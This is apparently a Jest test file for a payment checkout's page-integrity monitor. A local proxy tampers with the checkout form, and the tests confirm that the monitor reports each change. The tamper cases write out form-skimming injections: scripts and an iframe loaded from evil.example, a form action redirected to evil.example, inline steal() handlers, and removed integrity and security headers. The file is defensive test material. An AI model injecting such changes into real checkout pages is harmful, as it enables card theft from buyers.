import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type IncomingMessage, type OutgoingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createLog, type Log } from '@pay/shared/logging/logger.ts';
import { registry } from '@pay/shared/telemetry/metrics.ts';
import { startStories, type Stories } from '../../test/checkout-pages.ts';
import { pageCheckLoop } from './page-check-loop.ts';

let stories: Stories;
beforeAll(async () => {
  stories = await startStories();
});
afterAll(() => stories.stop());

/** What a proxy between the buyer and the form does to an answer. */
type Tamper = (answer: { path: string; headers: OutgoingHttpHeaders; body: string }) => {
  headers?: OutgoingHttpHeaders;
  body?: string;
};

/** A proxy before the form; it answers with what `tamper` makes of an answer. */
async function startProxy(tamper: Tamper) {
  const pass = async (req: IncomingMessage) => {
    const path = req.url ?? '/';
    const answer = await fetch(stories.origin + path);
    const { 'content-length': _length, ...headers } = Object.fromEntries(answer.headers);
    const body = await answer.text();
    return { status: answer.status, headers, body, ...tamper({ path, headers, body }) };
  };
  const server = createServer((req, res) => {
    void pass(req).then(({ status, headers, body }) => res.writeHead(status, headers).end(body));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
    /** Ends every connection unanswered. The port stays taken: a free one may get the server of another test. */
    hangUp: () => {
      server.on('connection', (socket) => socket.destroy());
    },
    stop: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** One look at the form through such a proxy: what the metric says, and what was logged. */
async function look(tamper: Tamper, link?: string): Promise<{ result: string | undefined; logged: string[] }> {
  const proxy = await startProxy(tamper);
  const looked = await lookAt(proxy.url, link);
  proxy.stop();
  return looked;
}

async function lookAt(url: string, link?: string): Promise<{ result: string | undefined; logged: string[] }> {
  const logged: string[] = [];
  const quiet = createLog('page-check', 'silent');
  const log: Log = {
    ...quiet,
    error: (message, fields) => logged.push(`${message} ${JSON.stringify(fields)}`),
    warn: (message) => logged.push(message),
  };
  const loop = pageCheckLoop({ url, findLink: () => Promise.resolve(link), log });
  await loop.round(new AbortController().signal);
  const metrics = await registry.getSingleMetricAsString('form_page_integrity');
  return { result: /result="(\w+)"\} 1/.exec(metrics)?.[1], logged };
}

const openLink = () => stories.tell({}).slice('/pay/'.length);
const isPage = (path: string) => path.startsWith('/pay/');

describe('11.6.1: the form is looked at from outside', () => {
  it('is the same where nothing was changed: a card page, and the page without a payment', async () => {
    expect(await look(() => ({}), openLink())).toEqual({ result: 'same', logged: [] });
    expect(await look(() => ({}))).toEqual({ result: 'same', logged: [] });
  });

  it.each<[string, Tamper]>([
    [
      'a script that somebody added',
      ({ path, body }) =>
        isPage(path) ? { body: body.replace('</head>', '<script src="https://evil.example/s.js"></script></head>') } : {},
    ],
    [
      'a script inside the page',
      ({ path, body }) => (isPage(path) ? { body: body.replace('</body>', '<script>steal()</script></body>') } : {}),
    ],
    ['a handler on a tag', ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<main onkeyup="steal()"') } : {})],
    [
      'an integrity attribute that was taken off',
      ({ path, body }) => (isPage(path) ? { body: body.replace(/ integrity="[^"]+"/, '') } : {}),
    ],
    [
      'the card page’s own script left out',
      ({ path, body }) => (isPage(path) ? { body: body.replace(/<script src="\/assets\/card[^>]*><\/script>/, '') } : {}),
    ],
    ['other bytes in the card page’s own script', ({ path, body }) => (path.includes('/card.') ? { body: `${body};steal()` } : {})],
    [
      'a form that leads elsewhere',
      ({ path, body }) => (isPage(path) ? { body: body.replace(/action="\/pay/, 'action="https://evil.example/pay') } : {}),
    ],
    [
      'a frame over the form',
      ({ path, body }) => (isPage(path) ? { body: body.replace('<main', '<iframe src="https://evil.example"></iframe><main') } : {}),
    ],
    ['a policy that lets more in', ({ headers }) => ({ headers: { ...headers, 'content-security-policy': 'script-src *' } })],
    ['a header that was taken off', ({ headers: { 'strict-transport-security': _off, ...headers } }) => ({ headers })],
    ['other bytes in a script', ({ path, body }) => (path.endsWith('.js') ? { body: `${body};steal()` } : {})],
  ])('is different with %s: metric and log say so, without the buyer’s link', async (_name, tamper) => {
    const link = openLink();
    const { result, logged } = await look(tamper, link);
    expect(result).toBe('different');
    expect(logged.length).toBeGreaterThan(0);
    expect(logged.join()).not.toContain(link);
  });

  it('says so where it cannot look: the metric is unreachable, and the log has it', async () => {
    const { url, hangUp, stop } = await startProxy(() => ({}));
    hangUp();
    expect(await lookAt(url)).toEqual({
      result: 'unreachable',
      logged: ['the checkout could not be fetched at its public address'],
    });
    stop();
  });
});
